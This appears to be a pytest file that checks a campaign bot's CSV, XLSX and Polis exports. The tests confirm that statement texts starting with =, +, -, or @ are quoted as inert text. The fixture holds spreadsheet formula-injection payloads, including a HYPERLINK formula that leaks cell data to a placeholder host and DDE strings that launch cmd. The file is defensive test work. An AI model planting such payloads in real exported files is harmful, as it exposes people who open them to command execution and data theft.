"""Hostile statement texts in the catalogue: every export writes them as text a spreadsheet
does not run, while numbers (a negative mean too) stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.insight.exports import ExportRequest
from bot.insight.formula_guard import guard_text
from bot.publishing.catalogue_import import import_catalogue
from bot.service import CampaignService
from bot.settings.catalogue import load_catalogue
from tests.factories import T0, person, vote

HOSTILE = {
    "f-is": '=HYPERLINK("https://example.invalid/?d="&A1;"Klik hier")',
    "f-plus": "+31 procent van de gemeenten heeft een circulair inkoopbeleid.",
    "f-min": "-2 graden is genoeg; verder hoeft niemand iets.",
    "f-at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
THEME_TITLE = "=cmd|' /C calc'!A0"


@pytest.fixture
async def hostile(service: CampaignService, tmp_path: Path) -> CampaignService:
    statements = "\n".join(f"[[themes.statements]]\nkey = \"{key}\"\ntext = '''{text}'''\n"
                           for key, text in HOSTILE.items())
    path = tmp_path / "hostile.toml"
    path.write_text(f"[[themes]]\nkey = \"vijandig\"\ntitle = \"{THEME_TITLE}\"\n\n"
                    f"{statements}", encoding="utf-8")
    await import_catalogue(service.db, service.campaign_id, load_catalogue(path), now=T0)
    for key in HOSTILE:
        await service.open(key)
    for n, option in enumerate(["oneens", "helemaal_oneens", "helemaal_oneens",
                                        "eens", "eens", "neutraal"]):
        who = person(f"G{n}")
        await service.choose_layer(who, "gemeente")
        await service.record(vote(who, "f-min", option))
    return service


def test_the_guard_follows_owasp() -> None:
    for leading in ("=", "+", "-", "@", "\t", "\r", "\0"):
        assert guard_text(leading + "1+1") == "'" + leading + "1+1"
    assert guard_text("Het Rijk = de baas") == "Het Rijk = de baas"
    assert guard_text("'al beschermd") == "'al beschermd"
    assert guard_text("") == ""


@pytest.mark.parametrize(("dialect", "delimiter", "encoding"),
                         [(None, ",", "utf-8"), ("excel-nl", ";", "utf-8-sig")])
async def test_csv_cells_start_with_a_quote(hostile: CampaignService, dialect: str | None,
                                            delimiter: str, encoding: str) -> None:
    [content] = (await hostile.export(ExportRequest("csv", dialect))).values()
    rows = list(csv.DictReader(io.StringIO(content.decode(encoding), newline=""),
                               delimiter=delimiter))
    texts = {r["stelling"]: r["stellingtekst"] for r in rows}
    for key, text in HOSTILE.items():
        assert texts[key] == "'" + text
    assert {r["themanaam"] for r in rows if r["thema"] == "vijandig"} == {"'" + THEME_TITLE}
    for row in rows:
        assert not row["stellingtekst"].startswith(("=", "+", "-", "@"))
    # A negative mean is written as a number, not guarded as text.
    gemeente = next(r for r in rows if (r["stelling"], r["laag"]) == ("f-min", "gemeente"))
    mean = gemeente["gemiddelde"]
    assert mean in ("-0.5000", "-0,5000")
    assert float(mean.replace(",", ".")) == pytest.approx(-0.5)


async def test_xlsx_text_cells_are_text_never_formulas(hostile: CampaignService) -> None:
    [content] = (await hostile.export(ExportRequest("xlsx"))).values()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(content))["Stellingen"]
    texts = {row[2].value: row[3] for row in sheet.iter_rows(min_row=2)}
    for key, text in HOSTILE.items():
        cell = texts[key]
        # Stored exactly as written, as text, with Excel's own quote prefix.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    gemeente = next(r for r in sheet.iter_rows(min_row=2)
                    if (r[2].value, r[5].value) == ("f-min", "gemeente"))
    mean = next(c for c in gemeente if c.number_format == "+0.0;-0.0;0.0")
    assert (mean.value, mean.data_type) == (pytest.approx(-0.5), "n")


async def test_polis_comment_bodies_are_guarded(hostile: CampaignService) -> None:
    files = await hostile.export(ExportRequest("polis"))
    comments = list(csv.DictReader(io.StringIO(files["comments.csv"].decode("utf-8"))))
    keys = {r["comment-id"]: r["statement"] for r in csv.DictReader(
        io.StringIO(files["positie-statements.csv"].decode("utf-8")))}
    for row in comments:
        key = keys[row["comment-id"]]
        if key in HOSTILE:
            assert row["comment-body"] == "'" + HOSTILE[key]
